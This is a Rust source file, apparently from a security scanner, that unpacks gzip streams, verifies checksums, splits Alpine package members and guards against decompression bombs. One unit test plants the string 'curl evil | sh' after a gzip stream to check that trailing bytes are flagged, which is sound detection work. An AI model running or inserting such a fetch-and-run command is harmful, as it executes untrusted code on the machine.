//! gzip (RFC 1952), with any number of members one after the other, as `gzip`, bgzip and stargz write them.
//!
//! Members decode to one stream, with one exception: an Alpine `.apk` is two or three members, each a tar of its
//! own (signature, control, data). When every one of a few members begins with a tar header they become one child
//! each, so that an end-of-archive marker in the first hides nothing in the others.

use flate2::{Decompress, FlushDecompress, Status};

use super::stream::{self, CHUNK, Decoded, Progress, Pushed};
use super::{Entries, Input, Wrapper};
use crate::model::{FileKind, Gap};

/// Opens gzip streams.
pub(super) struct Gzip;

/// More members than this are pieces of one stream, whatever they begin with.
const SEPARATE_MAX: usize = 16;
/// An extra field or comment from this length is looked at as a file of its own.
const FIELD_MIN: usize = 64;

impl Wrapper for Gzip {
    fn kinds(&self) -> &'static [FileKind] {
        &[FileKind::Gzip]
    }

    fn unwrap(&self, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
        let bytes: &[u8] = input.view;
        let mut meter = out.budget().meter();
        let mut buffer = vec![0; CHUNK];
        let mut inflate = Decompress::new(false);
        // Where each of the first members begins in the output.
        let mut starts = Vec::new();
        let mut members = 0usize;
        let mut at = 0;
        let state = loop {
            let rest = bytes.get(at..).unwrap_or_default();
            if members > 0 && !rest.starts_with(&[0x1f, 0x8b]) {
                break Ok(());
            }
            let header = match Header::parse(rest) {
                Ok(header) => header,
                Err(gap) => break Err(stream::located(gap, at)),
            };
            if members < SEPARATE_MAX {
                starts.push(meter.bytes().len());
                header.fields(at, input, out)?;
            }
            members += 1;
            let body = at.saturating_add(header.len);
            inflate.reset(false);
            let start = meter.bytes().len();
            let decoded = inflate_raw(&mut inflate, bytes.get(body..).unwrap_or_default(), &mut meter, &mut buffer);
            at = body.saturating_add(decoded.used);
            if let Err(gap) = decoded.state {
                break Err(gap);
            }
            let made = meter.bytes().get(start..).unwrap_or_default();
            match check(bytes.get(at..).unwrap_or_default(), made) {
                Ok(len) => at = at.saturating_add(len),
                Err(gap) => break Err(stream::located(gap, at)),
            }
        };
        let separate = members > 1
            && members <= SEPARATE_MAX
            && starts.iter().all(|s| meter.bytes().get(*s..).is_some_and(crate::identify::is_tar));
        if !separate {
            return stream::finish("gzip", input, out, meter, Decoded { used: at, state });
        }
        let view = meter.finish();
        let name = crate::identify::stripped_name(input.name, input.kind);
        let stem = name.strip_suffix(".tar").unwrap_or(&name);
        let ends = starts.iter().skip(1).copied().chain([view.len()]);
        for (index, (start, end)) in starts.iter().zip(ends).enumerate() {
            if let Some(member) = view.slice(*start..end) {
                out.member("gzip", &format!("{stem}.{}.tar", index + 1), member)?;
            }
        }
        state?;
        stream::trailing(input, out, at)
    }
}

/// Inflates one raw deflate stream from the start of `input`.
pub(super) fn inflate_raw(
    inflate: &mut Decompress,
    input: &[u8],
    meter: &mut crate::limits::Meter<'_>,
    buffer: &mut [u8],
) -> Decoded {
    stream::pump(input, meter, buffer, stream::everything, |part, _, buffer| {
        let (before_in, before_out) = (inflate.total_in(), inflate.total_out());
        let state = match inflate.decompress(part, buffer, FlushDecompress::None) {
            Ok(Status::StreamEnd) => Ok(Progress::End),
            Ok(Status::Ok | Status::BufError) => Ok(Progress::More),
            Err(e) => Err(Gap::malformed(e.to_string())),
        };
        Pushed {
            consumed: usize::try_from(inflate.total_in() - before_in).unwrap_or(0),
            produced: usize::try_from(inflate.total_out() - before_out).unwrap_or(0),
            state,
        }
    })
}

/// Compares the trailer (CRC-32 and length modulo 2^32) with what was made; its length when it agrees.
fn check(trailer: &[u8], made: &[u8]) -> Result<usize, Gap> {
    let Some(([c0, c1, c2, c3, l0, l1, l2, l3], _)) = trailer.split_first_chunk::<8>() else {
        return Err(Gap::malformed("the checksum is cut off"));
    };
    let mut crc = flate2::Crc::new();
    crc.update(made);
    if crc.sum() != u32::from_le_bytes([*c0, *c1, *c2, *c3]) {
        return Err(Gap::malformed("the checksum of the content differs"));
    }
    if made.len() as u32 != u32::from_le_bytes([*l0, *l1, *l2, *l3]) {
        return Err(Gap::malformed(format!("the content has {} bytes, its trailer says otherwise", made.len())));
    }
    Ok(8)
}

/// A member's header.
struct Header {
    len: usize,
    extra: (usize, usize),
    comment: (usize, usize),
}

impl Header {
    fn parse(bytes: &[u8]) -> Result<Self, Gap> {
        let cut = || Gap::malformed("the header is cut off");
        let [_, _, method, flags, ..] = bytes.first_chunk::<10>().ok_or_else(cut)?;
        if *method != 8 {
            return Err(Gap::malformed(format!("compression method {method} instead of 8 (deflate)")));
        }
        let mut at = 10usize;
        let mut extra = (0, 0);
        if flags & 4 != 0 {
            let [low, high] = bytes.get(at..).and_then(<[u8]>::first_chunk).ok_or_else(cut)?;
            extra = (at + 2, usize::from(u16::from_le_bytes([*low, *high])));
            at = extra.0 + extra.1;
        }
        let mut text = |present: bool| -> Result<(usize, usize), Gap> {
            let start = at;
            if present {
                let len = memchr::memchr(0, bytes.get(at..).ok_or_else(cut)?).ok_or_else(cut)?;
                at += len + 1;
                return Ok((start, len));
            }
            Ok((start, 0))
        };
        text(flags & 8 != 0)?;
        let comment = text(flags & 16 != 0)?;
        if flags & 2 != 0 {
            at += 2;
        }
        if at > bytes.len() {
            return Err(cut());
        }
        Ok(Self { len: at, extra, comment })
    }

    /// Hands on an extra field or a comment that is long enough to hold something.
    fn fields(&self, at: usize, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
        for (name, (start, len)) in [("extra field", self.extra), ("comment", self.comment)] {
            let start = at.saturating_add(start);
            if let (true, Some(view)) = (len >= FIELD_MIN, input.view.slice(start..start.saturating_add(len))) {
                out.bytes(name.to_owned(), start as u64, view)?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{open, open_named};
    use super::*;
    use crate::model::GapReason;
    use flate2::Compression;
    use flate2::write::GzEncoder;
    use std::io::Write as _;

    fn gz(data: &[u8]) -> Vec<u8> {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    fn tar(name: &str, content: &[u8], finished: bool) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_cksum();
        builder.append_data(&mut header, name, content).unwrap();
        let mut bytes = builder.into_inner().unwrap();
        if !finished {
            bytes.truncate(bytes.len() - 1024);
        }
        bytes
    }

    #[test]
    fn members_join_to_one_stream() {
        let mut bytes = gz(b"first ");
        bytes.extend(gz(b"second"));
        bytes.extend([0; 100]);
        let seen = open_named(&Gzip, FileKind::Gzip, "a/x.js.gz", &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.children, [("a/x.js".to_owned(), b"first second".to_vec())]);
        assert!(seen.findings.is_empty(), "zero padding is nothing");
    }

    #[test]
    fn alpine_members_stay_apart() {
        let mut bytes = gz(&tar(".SIGN.RSA.x.pub", b"sig", true));
        bytes.extend(gz(&tar(".PKGINFO", b"pkgname = x", false)));
        bytes.extend(gz(&tar("bin/x", b"#!/bin/sh", true)));
        let seen = open_named(&Gzip, FileKind::Gzip, "x.apk", &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.names(), ["x.1.tar", "x.2.tar", "x.3.tar"]);
        assert_eq!(seen.children[2].1, tar("bin/x", b"#!/bin/sh", true));
    }

    #[test]
    fn what_came_before_a_break_is_kept() {
        let data: Vec<u8> = (0..200_000u32).flat_map(|i| (i.wrapping_mul(2_654_435_761) >> 8).to_le_bytes()).collect();
        let whole = gz(&data);
        let cut = &whole[..whole.len() / 2];
        let seen = open(&Gzip, FileKind::Gzip, cut);
        let gap = seen.broken();
        assert_eq!(gap.reason, GapReason::Malformed);
        assert!(gap.detail.contains("not over"), "{gap}");
        let got = &seen.children[0].1;
        assert!(got.len() > 300_000 && data.starts_with(got), "{} bytes", got.len());
    }

    #[test]
    fn a_wrong_checksum_is_a_gap_and_the_content_is_kept() {
        let mut bytes = gz(b"hello hello hello");
        let at = bytes.len() - 6;
        bytes[at] ^= 1;
        let seen = open(&Gzip, FileKind::Gzip, &bytes);
        assert!(seen.broken().detail.contains("checksum of the content differs"));
        assert_eq!(seen.children[0].1, b"hello hello hello");
    }

    #[test]
    fn what_follows_is_handed_on_and_reported() {
        let mut bytes = gz(b"x");
        let end = bytes.len();
        bytes.extend(b"curl evil | sh");
        let seen = open(&Gzip, FileKind::Gzip, &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.children[1], ("trailing".to_owned(), b"curl evil | sh".to_vec()));
        assert_eq!(seen.findings[0].rule.id, "container-trailing-bytes");
        assert_eq!(seen.findings[0].offset(), Some(end as u64));
    }

    #[test]
    fn header_fields_are_skipped_and_long_ones_handed_on() {
        let mut bytes = vec![0x1f, 0x8b, 8, 4 | 8 | 16 | 2, 0, 0, 0, 0, 0, 3];
        bytes.extend(100u16.to_le_bytes());
        bytes.extend([b'e'; 100]);
        bytes.extend(b"name\0short\0\x12\x34");
        bytes.extend(&gz(b"body")[10..]);
        let seen = open(&Gzip, FileKind::Gzip, &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.names(), ["extra field", "x"]);
        assert_eq!(seen.children[1].1, b"body");
    }

    #[test]
    fn every_cut_and_every_flipped_byte_ends() {
        let whole = gz(&tar("a", b"abc", true));
        for len in 0..whole.len() {
            assert!(open(&Gzip, FileKind::Gzip, &whole[..len]).result.is_err());
        }
        for at in 0..whole.len() {
            let mut bytes = whole.clone();
            bytes[at] ^= 0xff;
            drop(open(&Gzip, FileKind::Gzip, &bytes));
        }
    }

    #[test]
    fn a_bomb_ends_in_a_limit() {
        let bytes = gz(&vec![0; 3 << 20]);
        let limits = crate::limits::Limits { entry: 1 << 20, ..Default::default() };
        let seen = super::super::testing::open_with(&Gzip, FileKind::Gzip, "x", &bytes, limits, &[]);
        assert_eq!(seen.broken().reason, GapReason::Limit);
        assert!(seen.children[0].1.len() <= 1 << 20);
    }
}
